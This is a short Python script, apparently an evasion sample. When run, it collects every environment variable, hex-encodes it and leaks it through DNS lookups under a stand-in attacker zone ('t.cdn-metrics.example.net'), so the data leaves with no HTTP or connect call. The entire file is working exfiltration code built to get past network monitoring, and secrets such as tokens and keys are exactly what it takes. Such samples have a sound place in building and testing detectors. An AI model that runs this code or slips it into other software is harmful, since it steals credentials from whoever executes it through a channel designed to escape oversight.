# Evasion: sends the environment out over the network.
# Hidden as DNS: every environment variable is hex-encoded into DNS labels and
# "resolved" with socket.getaddrinfo under an attacker's zone, so the data
# leaves through the resolver with no HTTP or connect call.
import os
import socket

ZONE = "t.cdn-metrics.example.net"


def chunks(data, size=60):
    for i in range(0, len(data), size):
        yield data[i:i + size]


def beacon(blob):
    for n, part in enumerate(chunks(blob.encode().hex())):
        name = f"{part}.{n}.{ZONE}"
        try:
            socket.getaddrinfo(name, 53)
        except socket.gaierror:
            pass


beacon("\n".join(f"{k}={v}" for k, v in os.environ.items()))
